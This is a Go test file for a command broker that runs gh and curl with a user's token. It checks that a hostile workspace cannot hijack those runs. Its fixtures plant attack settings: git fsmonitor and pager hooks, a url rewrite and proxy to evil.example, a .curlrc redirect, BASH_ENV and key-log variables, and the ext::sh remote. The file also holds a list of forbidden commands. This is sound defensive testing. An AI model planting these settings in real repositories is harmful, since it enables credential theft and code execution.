package broker_test

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/tidemark/tidemark/internal/box"
	"github.com/tidemark/tidemark/internal/box/broker"
	"github.com/tidemark/tidemark/internal/test/boxtest"
	"github.com/tidemark/tidemark/internal/warrant/outgoing"
)

// forge is an office whose others are a service of repositories, and a host of files. What it answers is as much of the real one's as
// gh needs.
type forge struct {
	*office
	asked []string // queries, with what signs in
	files map[string]string
}

const ghToken = "gho_of_the_owner"

func newForge(t *testing.T) *forge {
	t.Helper()
	boxtest.Needs(t, "git", "curl")
	o := &forge{office: &office{World: boxtest.New(t), t: t}, files: map[string]string{"/tool.txt": "the tool\n"}}
	o.others(http.HandlerFunc(o.serve), "api.github.com", "files.acme.example", "git.acme.example")
	o.Must("git init -q && git add -A && git commit -qm one && git switch -qc fix-12 && git remote add origin https://github.com/acme/web.git")
	return o
}

func (o *forge) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	o.mu.Lock()
	o.seen = append(o.seen, r.Method+" "+r.Host+r.URL.Path)
	if strings.HasPrefix(r.Host, "api.") {
		o.asked = append(o.asked, r.Header.Get("Authorization")+" "+string(body))
	}
	o.mu.Unlock()
	if text, ok := o.files[r.URL.Path]; ok {
		_, _ = io.WriteString(w, text)
		return
	}
	if r.URL.Path == "/away" {
		http.Redirect(w, r, "https://elsewhere.example/tool.txt", http.StatusFound)
		return
	}
	if r.URL.Path != "/graphql" {
		http.NotFound(w, r)
		return
	}
	repo := map[string]any{"id": "R_1", "name": "web", "owner": map[string]any{"login": "acme", "id": "O_1"}, "hasIssuesEnabled": true, "viewerPermission": "WRITE",
		"defaultBranchRef": map[string]any{"name": "main"}, "isPrivate": false, "mergeCommitAllowed": true, "description": ""}
	pull := map[string]any{"id": "PR_1", "number": 7, "url": "https://github.com/acme/web/pull/7", "title": "Mend the door", "state": "OPEN", "headRefName": "fix-12", "baseRefName": "main", "body": "it is mended"}
	data := map[string]any{"repository": repo, "viewer": map[string]any{"login": "owner"}}
	switch q := string(body); {
	case strings.Contains(q, "createPullRequest"):
		data = map[string]any{"createPullRequest": map[string]any{"pullRequest": pull}}
	case strings.Contains(q, "createIssue"):
		data = map[string]any{"createIssue": map[string]any{"issue": map[string]any{"id": "I_1", "url": "https://github.com/acme/web/issues/8"}}}
	case strings.Contains(q, "PullRequestForBranch"):
		repo["pullRequests"] = map[string]any{"nodes": []any{}}
	case strings.Contains(q, "PullRequestList"), strings.Contains(q, "pullRequests("):
		repo["pullRequests"] = map[string]any{"totalCount": 1, "nodes": []any{pull}, "pageInfo": map[string]any{"hasNextPage": false}}
	}
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("X-Oauth-Scopes", "repo")
	_ = json.NewEncoder(w).Encode(map[string]any{"data": data})
}

func (o *forge) prepared(line string) (*broker.Deed, error) {
	o.t.Helper()
	if o.session == nil {
		o.want = o.Want("session")
		o.session = o.Open(o.want)
	}
	o.want.Env = o.Env
	f, ok := outgoing.Plain(line)
	if !ok || !f.Brokered {
		o.t.Fatalf("%s is no plain form for the broker", line)
	}
	b := broker.New(broker.Options{
		Want: o.want, State: filepath.Dir(o.want.State), Relay: o.opts, CAFile: o.ca,
		SignIn: func(context.Context, string, string) (string, error) { return ghToken, nil },
		Inside: func(_ context.Context, c box.Command) (box.Exit, error) {
			j, err := o.session.Start(c)
			if err != nil {
				return box.Exit{Code: box.ExitNoBox}, err
			}
			return j.Wait()
		},
	})
	return b.Prepare(o.t.Context(), f)
}

func (o *forge) does(line string) (broker.Question, string) {
	o.t.Helper()
	d, err := o.prepared(line)
	if err != nil {
		o.t.Fatalf("%s: %v", line, err)
	}
	code, out, err := o.run(d)
	if code != 0 || err != nil {
		o.t.Fatalf("%s: %d %v\n%s\n%q", line, code, err, out, o.asked)
	}
	return d.Question, out
}

// reached fails if anything but these names was looked up, or anybody else than gh or curl came.
func (o *forge) reached(names ...string) {
	o.t.Helper()
	o.mu.Lock()
	defer o.mu.Unlock()
	for _, n := range o.names {
		if !slices.Contains(names, n) {
			o.t.Errorf("the name %s was asked outside", n)
		}
	}
	for _, s := range o.seen {
		if strings.Contains(s, "/evil") {
			o.t.Errorf("somebody with the capability asked for %s", s)
		}
	}
}

// wicked makes the workspace one that would run what it can, and use what signs in, with every command.
func (o *forge) wicked() {
	o.evil("x.sh")
	for _, name := range []string{"gh", "git", "curl", "cat", "sh", "less"} {
		o.evil(filepath.Join("bin", name))
	}
	x := filepath.Join(o.Work, "x.sh")
	o.Put(filepath.Join(o.Work, ".config/gh/config.yml"), "pager: "+x+"\neditor: "+x+"\nbrowser: "+x+"\naliases:\n  pr: '!"+x+"'\n")
	o.Put(filepath.Join(o.Work, ".curlrc"), "url = https://evil.example/\noutput = stolen\n")
	o.Put(filepath.Join(o.Work, ".github/pull_request_template.md"), "x\n")
	f, err := os.OpenFile(filepath.Join(o.Work, ".git/config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		o.t.Fatal(err)
	}
	defer f.Close()
	if _, err := io.WriteString(f, strings.ReplaceAll("[core]\n\tfsmonitor = X\n\tpager = X\n\thooksPath = .\n[alias]\n\tconfig = !X\n\tremote = !X\n[url \"https://evil.example/\"]\n\tinsteadOf = https://github.com/\n[include]\n\tpath = ../more\n", "X", x)); err != nil {
		o.t.Fatal(err)
	}
	o.Env = append(o.Env, "GH_HOST=evil.example", "GH_TOKEN=theirs", "GH_CONFIG_DIR="+filepath.Join(o.Work, ".config/gh"), "GH_PAGER="+x, "GH_REPO=evil/web", "GIT_DIR="+o.Work+"/.git", "GIT_EXEC_PATH="+o.Work+"/bin",
		"CURL_HOME="+o.Work, "HTTPS_PROXY=http://evil.example:80", "BASH_ENV="+x, "SSLKEYLOGFILE="+o.Work+"/keys")
	for i, e := range o.Env {
		if strings.HasPrefix(e, "PATH=") {
			o.Env[i] = "PATH=" + o.Work + "/bin:" + strings.TrimPrefix(e, "PATH=")
		}
	}
}

// BOX-02: gh does what it was let to, in the repository of origin, and nothing of a hostile workspace runs while it is signed in.
func TestAPullRequestIsMadeWithoutCodeOfTheWorkspace(t *testing.T) {
	boxtest.Needs(t, "gh")
	o := newForge(t)
	o.prepared("gh pr list") //nolint:errcheck // opens the session's box while the workspace is harmless
	o.wicked()
	q, out := o.does(`gh pr create --title "Mend the door" --body "it is mended" --base main`)
	if q.Host != "github.com" || q.Place != "acme/web" || q.Verb != "submit" || len(q.Refs) != 1 || !strings.Contains(q.Refs[0].Name, "--head=fix-12") || !strings.Contains(out, "acme/web/pull/7") {
		t.Errorf("%+v\n%s", q, out)
	}
	o.mu.Lock()
	made := 0
	for _, a := range o.asked {
		if !strings.HasPrefix(a, "token "+ghToken+" ") && !strings.HasPrefix(a, "Bearer "+ghToken+" ") {
			t.Errorf("asked as %.60s", a)
		}
		if strings.Contains(a, "mutation") {
			if made++; !strings.Contains(a, "Mend the door") || !strings.Contains(a, "fix-12") {
				t.Errorf("made: %s", a)
			}
		}
	}
	o.mu.Unlock()
	if made != 1 {
		t.Errorf("%d things were made", made)
	}
	o.reached("api.github.com")
	if _, err := os.Stat(filepath.Join(o.Work, "keys")); err == nil {
		t.Error("keys of the connection were written to the workspace")
	}
	if q, out := o.does("gh pr list -R acme/web --limit 5"); q.Verb != "look" || !strings.Contains(out, "Mend the door") {
		t.Errorf("%+v\n%s", q, out)
	}
	if _, out := o.does(`gh issue create -t "A door" -b "squeaks"`); !strings.Contains(out, "issues/8") {
		t.Error(out)
	}
	o.reached("api.github.com")
}

// What would be another place, or needs somebody's answer, is not done.
func TestWhatGHIsNotDoneFor(t *testing.T) {
	o := newForge(t)
	for _, line := range []string{
		"gh pr view https://github.com/other/web/pull/3", "gh pr create -t x", "gh pr create -b x", "gh run view", "gh issue view https://github.com/a/b/issues/1", "gh pr list -R ../x/y", "gh pr list -R a..b/c",
	} {
		if _, ok := outgoing.Plain(line); !ok {
			continue
		}
		if d, err := o.prepared(line); !errors.Is(err, broker.ErrNotHere) {
			t.Errorf("%s: %v %+v", line, err, d)
		}
	}
	for _, line := range []string{"gh pr create --fill", "gh pr merge 3 -d", "gh api /user", "gh secret set X -b y", "gh release delete v1 -y", "gh issue delete 3", "gh repo clone a/b", "gh auth token", "gh pr checkout 3", "gh run view 3 --log", "gh pr merge 3 --admin"} {
		if f, ok := outgoing.Plain(line); ok && f.Brokered {
			t.Errorf("%s is for the broker", line)
		}
	}
	for _, url := range []string{"ext::sh -c x", "file:///srv/x", "https://github.com/a/b/c", "git@github.com:-x/y"} {
		o := newForge(t) // an open box would put the settings back
		o.Must("git config remote.origin.url '" + url + "'")
		if d, err := o.prepared("gh pr list"); !errors.Is(err, broker.ErrNotHere) {
			t.Errorf("%s: %v %+v", url, err, d)
		}
	}
	o.reached()
}

// BOX-02: an address is read, and nothing else: no settings, no login, no other computer. What becomes a file is put there by the session's box.
func TestADownload(t *testing.T) {
	o := newForge(t)
	o.prepared("gh pr list") //nolint:errcheck // opens the session's box while the workspace is harmless
	o.wicked()
	o.Put(filepath.Join(o.Home, ".curlrc"), "header = \"Authorization: secret\"\nurl = https://evil.example/\n")
	o.Put(filepath.Join(o.Home, ".netrc"), "machine files.acme.example login a password b\n")
	if q, out := o.does("curl -fsSL https://files.acme.example/tool.txt"); q.Verb != "download" || q.Host != "files.acme.example" || q.Place != "tool.txt" || out != "the tool\n" {
		t.Errorf("%+v\n%s", q, out)
	}
	q, _ := o.does("curl -fsS -o tool.txt https://files.acme.example/tool.txt")
	if text, err := os.ReadFile(filepath.Join(o.Work, "tool.txt")); err != nil || string(text) != "the tool\n" || len(q.Refs) != 1 || q.Refs[0].Name != "tool.txt" {
		t.Errorf("%q %v %+v", text, err, q)
	}
	d, err := o.prepared("curl -fsSL -o other.txt https://files.acme.example/away")
	if err != nil {
		t.Fatal(err)
	}
	if code, out, err := o.run(d); code == 0 && err == nil {
		t.Errorf("it was sent elsewhere, and went: %s", out)
	}
	if _, err := os.Stat(filepath.Join(o.Work, "other.txt")); err == nil {
		t.Error("a file was made of what did not come")
	}
	for name, target := range map[string]string{"a link out of it": "../../out.txt", "a guarded file": ".git/config"} {
		link := filepath.Join(o.Work, "link")
		_ = os.Remove(link)
		if err := os.Symlink(target, link); err != nil {
			t.Fatal(err)
		}
		before, _ := os.ReadFile(link)
		if d, err = o.prepared("curl -fsS -o link https://files.acme.example/tool.txt"); err != nil {
			t.Fatal(err)
		}
		_, _, _ = o.run(d)
		if after, _ := os.ReadFile(link); string(after) != string(before) {
			t.Errorf("%s: %q was %q", name, after, before)
		}
	}
	o.reached("files.acme.example")
	if _, err := o.prepared("curl https://files.acme.example/" + strings.Repeat("a", 3000)); !errors.Is(err, broker.ErrNotHere) {
		t.Errorf("an address of 3 KB: %v", err)
	}
	for _, line := range []string{"curl -d x https://files.acme.example/", "curl https://user:pass@files.acme.example/", "curl -H 'Authorization: x' https://files.acme.example/", "curl -u a:b https://files.acme.example/"} {
		if f, ok := outgoing.Plain(line); ok && f.Brokered {
			t.Errorf("%s is for the broker", line)
		}
	}
}
